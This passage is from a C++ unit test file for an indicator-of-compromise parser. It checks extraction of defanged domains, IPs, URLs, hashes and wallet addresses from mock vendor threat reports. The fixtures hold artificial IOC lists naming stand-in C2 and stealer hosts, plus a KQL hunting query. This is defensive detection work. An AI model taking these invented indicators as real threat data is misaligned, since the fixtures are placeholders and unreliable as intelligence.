      "sand[.]test - 203.0.113.77\n");
  EXPECT_EQ(values_of(notice), (Values{"domain sand.test", "ipv4 203.0.113.77", "ipv6 2001:db8:6f00:1::5c35:6029",
                                       "url https://moth.test"}));
}

TEST(VendorForms, AWordStuckToTheEndOfANameIsNoPartOfIt) {
  EXPECT_EQ(values_of(read("# A sample\n\nServer: moth[.]pwDomain WHOISEmail: styles[@]sand.comPhone number 1\n")),
            (Values{"domain moth.pw", "email styles@sand.com"}));
}

TEST(VendorForms, WordsWithoutBlanksEndAValue) {
  const Notice notice = read(
      "# \xe6\xa0\xb7\xe6\x9c\xac\n\n\xe4\xbb\x8ehxxp://moth.test/a/final\xe8\x8e\xb7\xe5\x8f\x96hta\xef\xbc\x8c"
      "\xe5\x9f\x9f\xe5\x90\x8dsand[.]test\xe7\x9a\x84\n");
  EXPECT_EQ(values_of(notice), (Values{"domain sand.test", "url http://moth.test/a/final"}));
}

TEST(VendorForms, APublicKeyAProductAndAPartOfAUrlAreNoValues) {
  EXPECT_EQ(values_of(read(text({"# A backdoor\n\nThe C2 server passes the public key of ", sha256, ".\n"}))),
            Values{});
  EXPECT_EQ(values_of(read("# A skimmer\n\nIt harms web servers running ASP.NET and IIS.\n")), Values{});
  EXPECT_EQ(values_of(read("# A campaign\n\nThe malicious URL containing \"victim.test/load\" was indexed.\n")),
            Values{});
}

TEST(VendorForms, BackslashesInAUrlAreMarkdowns) {
  EXPECT_EQ(values_of(read("# Indicators\n\n| http://moth[.]test/install\\_a\\_b.exe |  |\n")),
            (Values{"url http://moth.test/install_a_b.exe"}));
}

TEST(VendorForms, ARowOfATableNeedsNoBarBeforeItsFirstCell) {
  EXPECT_EQ(values_of(read("# IoC\n\n|IoC|Type|Description|\n|---|---|---|\n|a.moth[.]test|Domain||\n"
                           "b.moth[.]test|Domain||\n|c.moth[.]test|Domain||\n")),
            (Values{"domain a.moth.test", "domain b.moth.test", "domain c.moth.test"}));
}

TEST(VendorForms, ExternalAnalysisIsToReadOn) {
  EXPECT_EQ(values_of(read("# A report\n\n## Indicators\n### External analysis\n* link: https://sand.test/post.html\n\n"
                           "### Network activity\n* domain: moth.test\n")),
            (Values{"domain moth.test"}));
}

TEST(VendorForms, AFileKeptByAHostOfCodeIsListedForTheHarmItDoes) {
  EXPECT_EQ(
      values_of(read("# Indicators\n\n* url: https://bitbucket.org/moth/d/downloads/run.exe \xe2\x80\x94 it hosts "
                     "the stealer\n* url: https://bitbucket.org/moth\n* url: https://github.com/sand/c2-malware\n")),
      (Values{"url https://bitbucket.org/moth/d/downloads/run.exe"}));
}

TEST(VendorForms, AHostMayStandInBracketsWithoutABlank) {
  EXPECT_EQ(values_of(read("# A report\n\nThe server was used by Moth(198.51.100[.]7) and moth[.]test(198.51.100[.]8), "
                           "by getString(address) and by seven(7.0.0.1).\n")),
            (Values{"domain moth.test", "ipv4 198.51.100.7", "ipv4 198.51.100.8"}));
}

TEST(VendorForms, DecoysAndPlaceholdersAreHarmless) {
  EXPECT_EQ(values_of(read("# Indicators\n\n## Placeholder URLs used as decoys\n\n```\nhxxps[:]//sand[.]test/\n```\n\n"
                           "## C2 servers\n\n```\nmoth[.]test\n```\n")),
            (Values{"domain moth.test"}));
}

TEST(VendorForms, AnItemOfSourcesIsToReadOn) {
  EXPECT_EQ(
      values_of(read("# Malicious gems that steal tokens\n\n* \xf0\x9f\x93\x9a Sources : https://sand.test/news/a, "
                     "https://dune.test/b.jpg\n* URL : hxxps[:]//moth[.]test/a\n")),
      (Values{"url https://moth.test/a"}));
}

TEST(VendorForms, AVersionInATableIsNoAddress) {
  EXPECT_EQ(values_of(read("# Sample\n\n| Property | Value |\n|---|---|\n| **Version** | 1.0.7.0 |\n"
                           "| **C2** | 198.51.100.7 |\n")),
            (Values{"ipv4 198.51.100.7"}));
}

TEST(VendorForms, ReferenceHashesAreThoseOfSamples) {
  EXPECT_EQ(values_of(read(text(
                {"Indicators of compromise (IoCs)\nReference hashes:\n\n", md5, "\n\nFor more see the portal.\n"}))),
            Values{text({"md5 ", md5})});
  EXPECT_EQ(values_of(read(text({"# Sandfly\n\n## References\n\n", md5, "\n"}))), Values{});
}

TEST(VendorForms, ALinkEndsWithItsBracket) {
  EXPECT_EQ(
      values_of(read("![Answers of moth\\[.\\]test](https://news.test/a_1.jpg)_moth[.]test_ and _sand[.]test_\n")),
      (Values{"domain moth.test", "domain sand.test"}));
  EXPECT_EQ(values_of(read("It sent all to a server (_moth-a\\[.\\]test_), in May.\n")), Values{"domain moth-a.test"});
}

TEST(VendorForms, TheNameOfAVariableSaysWhatIsInIt) {
  EXPECT_EQ(
      values_of(read(
          "# Hunting\n\nConnections to the dedicated domains.\n\n"
          "let deliveryHosts = dynamic([\"moth.com\",\"sandfly.org\"]);\nEvents\n| where Url has_any (deliveryHosts)\n")),
      (Values{"domain moth.com", "domain sandfly.org"}));
}

TEST(VendorForms, OfAUrlInACellOnlyWhatStandsBeforeAPlaceholderIsKnown) {
  EXPECT_EQ(values_of(read("## IoC\n\n| Indicator | Value | File |\n|---|---|---|\n"
                           "| Copy service | `https://a.moth.test/x?p=<token>` | a.js, b.js |\n")),
            (Values{"file_name a.js", "file_name b.js", "url https://a.moth.test/x"}));
}

TEST(VendorForms, AHashBehindTheNameOfItsFileIsOne) {
  EXPECT_EQ(values_of(read(text({"IOCs of the document:Letter.xls", sha256, "\n"}))),
            Values{text({"sha256 ", sha256})});
  EXPECT_EQ(values_of(read(text({"IOCs of the backdoor:update.exe", md5, "C2s: none\n"}))),
            Values{text({"md5 ", md5})});
}

TEST(VendorForms, WhatIsKeptAtASiteOfEverybodyIsMeantBelowItsHeading) {
  EXPECT_EQ(values_of(read("## Infrastructure IOCs\n\n### GitHub staging\n- github.com/sandmoth/Fly.v1\n")),
            Values{"url github.com/sandmoth/Fly.v1"});
  EXPECT_EQ(values_of(read("## Infrastructure IOCs\n\n### More\n- github.com/sandmoth/Fly.v1\n")), Values{});
}

TEST(VendorForms, WalletsThatBeginTheLinesOfABlockAreListed) {
  EXPECT_EQ(values_of(read("Text.\n\n```\nIn reserve:\n  0x648a1918e7745f515d86e709726a61bd3d6a27b7\n"
                           "  0x2fb644098832b30a2f0017d642f7c3c22429ad08      (10x)\n```\n")),
            (Values{"eth_address 0x2fb644098832b30a2f0017d642f7c3c22429ad08",
                    "eth_address 0x648a1918e7745f515d86e709726a61bd3d6a27b7"}));
}

}  // namespace
}  // namespace clew::intel
